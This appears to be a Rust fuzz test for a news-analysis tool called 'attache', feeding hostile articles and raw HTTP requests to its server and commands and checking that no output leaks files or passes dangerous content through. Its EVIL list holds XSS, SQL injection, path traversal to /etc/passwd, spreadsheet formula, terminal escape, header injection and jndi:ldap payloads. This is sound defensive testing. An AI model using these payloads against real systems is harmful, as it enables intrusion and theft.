//! Hostile articles, requests made of them, and what no answer to them may hold.

mod markup;

use markup::{calendar_fault, obeyed, page_fault, table_fault};
use proptest::prelude::*;
use serde_json::Value;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{Shutdown, TcpStream};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

/// What went wrong, in words.
#[derive(Debug)]
pub struct Wrong(pub String);

/// What an article says, before it is put into one of the forms attache reads.
#[derive(Clone, Debug)]
pub struct Article {
    id: String,
    url: String,
    title: String,
    source: String,
    text: String,
    form: Form,
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Form {
    Jsonl,
    Html,
    Plain,
    /// Plain text with bytes that are no UTF-8.
    Broken,
}

/// Words that mean something to a browser, a terminal, a database, a path, a spreadsheet or a calendar.
const EVIL: [&str; 44] = [
    "<script zq=1>alert(1)</script>",
    "</script><script zq=1>alert(1)</script>",
    "<img zq=1 src=x onerror=alert(1)>",
    "\"><img zq=1 src=x onerror=alert(1)>",
    "' zq=1 onmouseover='alert(1)",
    "\" zq=1 autofocus onfocus=\"alert(1)",
    "<svg zq=1 onload=alert(1)>",
    "<svg/zq=1/onload=alert(1)>",
    "<a zq=1 href=\"javascript:alert(1)\">here</a>",
    "<a zq=1 href=\"data:text/html,<script>alert(1)</script>\">here</a>",
    "<iframe zq=1 srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object zq=1 data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<base zq=1 href=//evil.example>",
    "<meta zq=1 http-equiv=refresh content=0;url=//evil.example>",
    "<style zq=1>*{background:url(//evil.example)}</style>",
    "<form zq=1 action=//evil.example><input zq=1 name=token></form>",
    "<!-- zq=1 --><!--><script zq=1>",
    "<![CDATA[<script zq=1>]]>",
    "</textarea></title><script zq=1>",
    "<math zq=1><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}{% raw %}${7*7}",
    "&lt;script&gt;&#60;script&#62;&#x3c;b&#x3e;",
    "\u{202e}gnp.exe\u{202c}",
    "\u{2066}\u{2067}\u{2068}\u{2069}\u{200f}\u{200e}\u{061c}",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{9b}2J\u{90}q\u{9c}\u{85}",
    "\r\u{8}\u{c}\u{b}\u{7f}",
    "\u{0}",
    "\u{feff}\u{fffe}\u{ffff}\u{fdd0}\u{e0001}",
    "'; DROP TABLE events; --",
    "\" OR 1=1 --",
    "') UNION SELECT text FROM documents --",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "/etc/passwd\u{0}.html",
    "=HYPERLINK(\"http://evil.example\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:DISPLAY",
    "\r\nSet-Cookie: a=b\r\n\r\n<script zq=1>",
    "NEAR(\"a\" \"b\") AND *",
    "${jndi:ldap://evil.example/a}",
];

/// Sentences that make claims, so that hostile words come to stand in evidence, names and places.
const SENTENCES: [&str; 10] = [
    "Xi Jinping visited North Korea on 19 August 2018, the foreign ministry said.",
    "Kim Jong Un met Moon Jae-in in Pyongyang on Tuesday.",
    "Xi Jinping will visit North Korea on 9 September 2018, Yonhap reported, citing an official.",
    "China denied that Xi Jinping would visit North Korea in September.",
    "North Korea cancelled talks with South Korea planned for 16 May 2018.",
    "China's ambassador Li Jinjun held talks with Ri Su Yong in Pyongyang on Monday.",
    "The United States imposed sanctions on North Korea on Thursday.",
    "Security was tightened at Dandong station before a train from North Korea arrived, residents said.",
    "North Korea accused the United States of hostility and threatened to strike.",
    "Xi Jinping and Kim Jong Un signed an agreement in Beijing on 27 March 2018.",
];

/// Words of an attacker, sometimes only odd ones.
pub fn words() -> impl Strategy<Value = String> {
    let evil = prop::sample::select(EVIL.to_vec()).prop_map(str::to_owned);
    let long =
        (prop::sample::select(vec!["a", "é", "平", "<", "\u{301}", "a\u{200d}", "\""]), 200_usize..4000)
            .prop_map(|(piece, times)| piece.repeat(times));
    prop_oneof![
        6 => evil.clone(),
        2 => (evil.clone(), evil).prop_map(|(a, b)| format!("{a}{b}")),
        2 => ".{0,40}",
        1 => "\\PC{0,40}",
        1 => long,
    ]
}

/// A sentence with hostile words at a place of it.
fn sentence() -> impl Strategy<Value = String> {
    let plain = prop::sample::select(SENTENCES.to_vec());
    (plain, prop::option::weighted(0.7, words()), any::<prop::sample::Index>()).prop_map(
        |(plain, evil, at)| {
            let Some(evil) = evil else { return plain.to_owned() };
            let mut parts: Vec<&str> = plain.split(' ').collect();
            parts.insert(at.index(parts.len() + 1), &evil);
            parts.join(" ")
        },
    )
}

/// An article of sentences that make claims, with hostile words in all of its parts.
pub fn articles() -> impl Strategy<Value = Article> {
    let form = prop::sample::select(vec![Form::Jsonl, Form::Jsonl, Form::Html, Form::Plain, Form::Broken]);
    let text = prop::collection::vec(sentence(), 1..6).prop_map(|all| all.join(" "));
    (words(), words(), words(), words(), text, form)
        .prop_map(|(id, url, title, source, text, form)| Article { id, url, title, source, text, form })
}

/// Requests as bytes, most of them no HTTP.
pub fn requests() -> impl Strategy<Value = Vec<Vec<u8>>> {
    let bytes = prop::collection::vec(any::<u8>(), 0..300);
    let path = words().prop_map(|words| {
        let path: String = words.chars().filter(|sign| !matches!(sign, ' ' | '\r' | '\n')).collect();
        format!("GET /{path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n").into_bytes()
    });
    let head = words().prop_map(|words| {
        let value = words.replace(['\r', '\n'], " ");
        format!("GET /today HTTP/1.1\r\nHost: {value}\r\nCookie: {value}\r\nAuthorization: {value}\r\nConnection: close\r\n\r\n")
            .into_bytes()
    });
    let form = words().prop_map(|words| {
        let body = format!("kind={0}&event={0}&by={0}&sign={0}", encode(&words));
        format!(
            "POST /note HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
        .into_bytes()
    });
    let verb = ("[A-Z]{1,12}", "[ -~]{0,60}").prop_map(|(verb, path)| {
        format!("{verb} /{} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", path.replace(' ', "+"))
            .into_bytes()
    });
    prop::collection::vec(prop_oneof![bytes, path, head, form, verb], 0..12)
}

/// A desk on a record into which hostile articles were read; gone with the value.
pub struct Desk {
    folder: PathBuf,
    server: Child,
    port: u16,
    /// Titles, names and ids of the articles.
    said: Vec<String>,
    paths: Vec<String>,
}

impl Drop for Desk {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
        let _ = std::fs::remove_dir_all(&self.folder);
    }
}

struct Answer {
    status: u16,
    kind: String,
    head: String,
    body: String,
}

impl Desk {
    /// Reads articles into a new record, and opens the desk on it.
    pub fn of(articles: &[Article]) -> Result<Desk, Wrong> {
        static NEXT: AtomicUsize = AtomicUsize::new(0);
        let name = format!("attache-fuzz-{}-{}", std::process::id(), NEXT.fetch_add(1, Ordering::Relaxed));
        let folder = std::env::temp_dir().join(name);
        let put = |name: String, bytes: &[u8]| {
            std::fs::write(folder.join("in").join(name), bytes).expect("written")
        };
        std::fs::create_dir_all(folder.join("in")).expect("a folder");
        for (nth, article) in articles.iter().enumerate() {
            let (name, bytes) = article.file(nth);
            put(name, &bytes);
        }
        put("plain.txt".into(), b"Talks\ndate: 2018-08-18\nsource: sample wire\n\nXi Jinping met Kim Jong Un in Beijing on Monday.\n");
        std::fs::write(folder.join("rules.toml"), "[[rule]]\nname = \"all\"\nact = \"CONSULT\"\nsince = \"2018-01-01\"\n[atom]\nfile = \"alerts.xml\"\n").expect("written");
        plain_output(&folder, &["read", "in", "--record", "r.db"].map(str::to_owned))?;
        let server = attache(&folder)
            .args(["serve", "--json", "--port", "0", "--record", "r.db"])
            .stdout(Stdio::piped())
            .stderr(std::fs::File::create(folder.join("server.log")).expect("a log"))
            .spawn()
            .expect("attache serves");
        let mut desk = Desk { folder, server, port: 0, said: Vec::new(), paths: Vec::new() };
        let mut line = String::new();
        BufReader::new(desk.server.stdout.take().expect("a pipe")).read_line(&mut line).expect("the address");
        let told: Value =
            serde_json::from_str(&line).map_err(|_| Wrong("the server does not start".into()))?;
        let port =
            told["url"].as_str().and_then(|url| url.trim_end_matches('/').rsplit(':').next()?.parse().ok());
        desk.port = port.unwrap_or(0);
        desk.said =
            articles.iter().flat_map(|one| [one.id.clone(), one.title.clone(), one.source.clone()]).collect();
        let description: Value = serde_json::from_str(&desk.get("/openapi.json")?).unwrap_or_default();
        let paths = description["paths"].as_object().into_iter().flatten();
        desk.paths = paths.filter(|(_, of)| of.get("get").is_some()).map(|(path, _)| path.clone()).collect();
        Ok(desk)
    }

    /// Every path of the description, with ordinary values and with hostile ones.
    pub fn paths(&self, wild: &[String]) -> Vec<String> {
        let mut all = Vec::new();
        let values: Vec<&String> = wild.iter().chain(&self.said).collect();
        for (nth, path) in self.paths.iter().enumerate() {
            let plain = path.replace("{a}", "CHN").replace("{b}", "PRK").replace("{person}", "xi-jinping");
            let plain = plain.replace("{country}", "PRK").replace("{question}", "00ff");
            let wild = encode(&cut(values[nth % values.len()], 250));
            let other = encode(&cut(values[(nth + 1) % values.len()], 90));
            all.push(plain.replace("{event}", "00ff"));
            all.push(format!("{plain}?q={wild}&side={other}&id={wild}&name={wild}&rule={other}&file={wild}&line=1&skip={other}"));
            all.push(format!("{plain}?q={wild}"));
            all.push(format!("{plain}?id={wild}&name={wild}&rule={wild}&file={wild}&line=1"));
            let mut odd = path.clone();
            for name in ["{a}", "{b}", "{person}", "{event}", "{country}", "{question}"] {
                odd = odd.replace(name, &other);
            }
            all.push(odd);
        }
        all.extend(
            [
                "/",
                "/help",
                "/enter",
                "/static/desk.js",
                "/static/..%2f..%2fCargo.toml",
                "/..%2f..%2fetc%2fpasswd",
            ]
            .map(str::to_owned),
        );
        all.push(format!("/static/{}", encode(&cut(&wild[0], 200))));
        all
    }

    /// The pages of the events and documents that the record holds.
    pub fn found(&self) -> Vec<String> {
        let mut all = Vec::new();
        let search: Value =
            serde_json::from_str(&self.get("/search.json").unwrap_or_default()).unwrap_or_default();
        for event in search["events"].as_array().into_iter().flatten().take(12) {
            let Some(id) = event["id"].as_str() else { continue };
            all.extend(["", ".json", ".geojson"].map(|end| format!("/event/{id}{end}")));
        }
        for id in &self.said {
            let id = encode(&cut(id, 290));
            all.extend(["", ".json"].map(|end| format!("/document{end}?id={id}")));
            all.extend(["", ".json"].map(|end| format!("/source{end}?name={id}")));
        }
        for as_of in ["2018-08-20", "2018-03-01"] {
            all.extend(
                ["/pair/CHN/PRK", "/brief/CHN/PRK", "/visits/CHN/PRK", "/search"]
                    .map(|path| format!("{path}?as_of={as_of}")),
            );
        }
        all
    }

    /// Asks for a page, and looks at what comes.
    pub fn get(&self, path: &str) -> Result<String, Wrong> {
        let request = format!("GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n");
        let answer = self.send(request.as_bytes())?;
        let wrong = |what: &str| Err(Wrong(format!("{}: {what}", cut(path, 300))));
        match answer.status {
            200..=499 => {}
            status => return wrong(&format!("status {status}, {}", self.log())),
        }
        if answer.body.contains("root:x:0:0") || answer.body.contains("[dependencies]") {
            return wrong("a file of this machine");
        }
        if let Some(bad) = answer.faulty(path) {
            return wrong(&bad);
        }
        Ok(answer.body)
    }

    /// Sends bytes; whatever they are, no fault of the server comes back.
    pub fn raw(&self, bytes: &[u8]) -> Result<(), Wrong> {
        let answer = self.send(bytes)?;
        match answer.status {
            0..=499 => Ok(()),
            status => {
                Err(Wrong(format!("{:?}: status {status}, {}", String::from_utf8_lossy(bytes), self.log())))
            }
        }
    }

    fn send(&self, bytes: &[u8]) -> Result<Answer, Wrong> {
        let mut stream = TcpStream::connect(("127.0.0.1", self.port))
            .map_err(|error| Wrong(format!("the server is gone: {error}, {}", self.log())))?;
        let _ = stream.set_read_timeout(Some(Duration::from_secs(60)));
        let _ = stream.write_all(bytes);
        if !bytes.windows(4).any(|four| four == b"\r\n\r\n") {
            let _ = stream.shutdown(Shutdown::Write);
        }
        let mut all = Vec::new();
        let _ = stream.read_to_end(&mut all);
        let split = all.windows(4).position(|four| four == b"\r\n\r\n").unwrap_or(all.len());
        let head = String::from_utf8_lossy(&all[..split]).into_owned();
        let body = String::from_utf8_lossy(all.get(split + 4..).unwrap_or_default()).into_owned();
        let status = head.split(' ').nth(1).and_then(|status| status.parse().ok()).unwrap_or(0);
        let kind = header(&head, "content-type").to_owned();
        Ok(Answer { status, kind, head, body })
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.folder.join("server.log")).unwrap_or_default()
    }

    /// The commands, with hostile words where they take words.
    pub fn commands(&self, wild: &[String]) -> Vec<Vec<String>> {
        let word =
            wild.iter().find(|word| !word.is_empty() && !word.contains('\0') && !word.starts_with('-'));
        let word = cut(word.map_or("talks", String::as_str), 300);
        let lines = [
            "events --ledger",
            "events --json",
            "search WORD",
            "search WORD --json",
            "tally visits --by country --person kim-jong-un",
            "tally meetings --between CHN PRK",
            "patterns",
            "export --json",
            "brief CHN PRK",
            "brief CHN PRK --json",
            "relations CHN PRK",
            "calendar CHN PRK",
            "calendar CHN PRK --ics",
            "indicators",
            "patterns CHN PRK",
            "export",
            "notes",
            "who WORD",
            "outlook WORD",
            "alert rules.toml",
            "alert rules.toml --json",
            "claims in/plain.txt",
            "times in/plain.txt",
        ];
        let asks = ["claims", "times", "who"];
        let mut all: Vec<Vec<String>> = Vec::new();
        for line in lines {
            let mut args: Vec<String> = line.split(' ').map(|part| part.replace("WORD", &word)).collect();
            if !asks.contains(&args[0].as_str()) {
                args.extend(["--record".into(), "r.db".into()]);
            }
            all.push(args);
        }
        let mut files: Vec<String> = std::fs::read_dir(self.folder.join("in"))
            .into_iter()
            .flatten()
            .flatten()
            .map(|file| format!("in/{}", file.file_name().to_string_lossy()))
            .collect();
        files.sort();
        for file in files.into_iter().take(2) {
            all.push(vec!["claims".into(), file.clone()]);
            all.push(vec!["check".into(), file, "--record".into(), "r.db".into()]);
        }
        all
    }

    /// Runs a command, and looks at what it prints.
    pub fn run(&self, args: &[String]) -> Result<(), Wrong> {
        plain_output(&self.folder, args)
    }

    /// Whether the server still runs, the record is whole, and the feed of alerts is one.
    pub fn whole(mut self) -> Result<(), Wrong> {
        if let Ok(Some(status)) = self.server.try_wait() {
            return Err(Wrong(format!("the server ended: {status}, {}", self.log())));
        }
        if self.log().contains("panicked") {
            return Err(Wrong(self.log()));
        }
        let db = rusqlite::Connection::open(self.folder.join("r.db")).expect("opens");
        let check: String = db
            .query_row("PRAGMA integrity_check", [], |row| row.get(0))
            .map_err(|error| Wrong(error.to_string()))?;
        if check != "ok"
            || db.query_row("SELECT count(*) FROM events", [], |row| row.get::<_, i64>(0)).is_err()
        {
            return Err(Wrong(format!("the record is damaged: {check}")));
        }
        let feed = std::fs::read(self.folder.join("alerts.xml")).unwrap_or_default();
        if let Err(error) = feed_rs::parser::parse(&feed[..]) {
            return Err(Wrong(format!(
                "the feed of alerts is none: {error}: {}",
                String::from_utf8_lossy(&feed)
            )));
        }
        Ok(())
    }
}

impl Article {
    /// Its file's name and bytes.
    fn file(&self, nth: usize) -> (String, Vec<u8>) {
        let Article { id, url, title, source, text, .. } = self;
        match self.form {
            Form::Jsonl => {
                let line = serde_json::json!({ "id": id, "url": url, "title": title, "source": source, "published": "2018-08-20", "text": text });
                (format!("{nth}.jsonl"), format!("{line}\n").into_bytes())
            }
            Form::Html => {
                let page = format!(
                    "<html><head><title>{title}</title><meta name=\"author\" content=\"{source}\"><meta property=\"article:published_time\" content=\"2018-08-20\"></head><body><article><p>{text}</p><p>{}</p></article></body></html>",
                    text.replace('<', "&lt;")
                );
                (format!("{nth}.html"), page.into_bytes())
            }
            Form::Plain => (format!("{nth}.txt"), self.plain()),
            Form::Broken => {
                let mut bytes = self.plain();
                bytes.splice(20..20, [0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0xf5, 0x00, 0x1b, 0x9b]);
                (format!("{nth}.txt"), bytes)
            }
        }
    }

    fn plain(&self) -> Vec<u8> {
        format!("{}\ndate: 2018-08-20\nsource: {}\n\n{}\n", self.title, self.source, self.text).into_bytes()
    }
}

impl Answer {
    /// What an answer holds that it must not.
    fn faulty(&self, path: &str) -> Option<String> {
        let kind = self.kind.split(';').next().unwrap_or_default();
        if self.head.lines().skip(1).any(|line| line.to_lowercase().starts_with("set-cookie: a=b")) {
            return Some("a head of the article's".into());
        }
        if header(&self.head, "x-content-type-options") != "nosniff" {
            return Some("nosniff is missing".into());
        }
        match kind {
            "text/html" => page_fault(&self.body),
            "application/json" | "application/geo+json" => {
                let odd =
                    self.body.chars().find(|sign| obeyed(*sign)).map(|sign| format!("{sign:?} as it is"));
                odd.or_else(|| serde_json::from_str::<Value>(&self.body).err().map(|error| error.to_string()))
            }
            "text/csv" => table_fault(&self.body),
            "text/calendar" => calendar_fault(&self.body),
            "text/plain" => self.body.chars().find(|sign| obeyed(*sign)).map(|sign| format!("{sign:?}")),
            "text/css" | "text/javascript" | "image/svg+xml" if path.starts_with("/static/") => None,
            "" if self.status != 200 => None,
            kind => Some(format!("the kind {kind:?}")),
        }
    }
}

/// Runs a command: it ends by itself with 0, 1 or 2, and prints nothing that a terminal obeys.
fn plain_output(folder: &PathBuf, args: &[String]) -> Result<(), Wrong> {
    let run = attache(folder).args(args).stdin(Stdio::null()).output().expect("attache runs");
    let text = format!("{}{}", String::from_utf8_lossy(&run.stdout), String::from_utf8_lossy(&run.stderr));
    let wrong = |what: String| Err(Wrong(format!("{args:?}: {what}: {}", cut(&text, 800))));
    if !matches!(run.status.code(), Some(0..=2)) || text.contains("panicked") {
        return wrong(format!("{}", run.status));
    }
    let ics = args.iter().any(|arg| arg == "--ics");
    match text.chars().find(|sign| obeyed(*sign) || (*sign == '\r' && !ics)) {
        Some(sign) => wrong(format!("{sign:?}")),
        None => Ok(()),
    }
}

/// The binary: of this build, or another that a long run keeps aside.
fn option_env(name: &str) -> String {
    std::env::var(name).unwrap_or_else(|_| env!("CARGO_BIN_EXE_attache").to_owned())
}

fn attache(folder: &PathBuf) -> Command {
    let mut command = Command::new(option_env("ATTACHE_FUZZ_BINARY"));
    for name in ["ATTACHE_RECORD", "ATTACHE_TOKEN", "ATTACHE_READ_TOKEN", "ATTACHE_DATA"] {
        command.env_remove(name);
    }
    command.current_dir(folder);
    command
}

fn header<'h>(head: &'h str, name: &str) -> &'h str {
    let lines = head.lines().filter_map(|line| line.split_once(": "));
    lines.into_iter().find(|(key, _)| key.eq_ignore_ascii_case(name)).map_or("", |(_, value)| value)
}

fn encode(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// Its beginning, of at most so many bytes.
fn cut(text: &str, most: usize) -> String {
    let end = (0..=most.min(text.len())).rev().find(|end| text.is_char_boundary(*end)).unwrap_or(0);
    text[..end].to_owned()
}
